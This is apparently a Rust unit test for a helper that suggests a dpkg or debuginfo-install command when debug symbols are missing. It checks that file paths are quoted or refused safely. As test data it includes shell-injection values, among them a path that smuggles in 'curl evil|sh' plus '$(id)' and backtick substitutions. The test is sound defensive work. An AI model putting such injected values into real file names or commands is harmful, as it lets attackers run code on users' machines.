//! What is proposed where symbols are missing.

use super::*;

#[test]
fn a_path_is_no_command() {
    let remedy = |release, path| package_of_symbols(release, "x", Path::new(path));
    let (debian, fedora) = ("NAME=x\nID=debian\n", "ID=fedora\n");
    assert!(remedy(debian, "/opt/x").contains("`dpkg -S /opt/x`"));
    assert!(remedy(debian, "/opt/x;curl evil|sh").contains("`dpkg -S '/opt/x;curl evil|sh'`"));
    assert!(remedy(fedora, "/o'$(id)").ends_with(r"debuginfo-install '/o'\''$(id)'`"));
    for release in [debian, fedora] {
        for path in ["/opt/x`id`", "/opt/\x1bx", "/opt/\u{202e}x"] {
            assert_eq!(remedy(release, path), "install its debug package, or use an unstripped build");
        }
    }
}
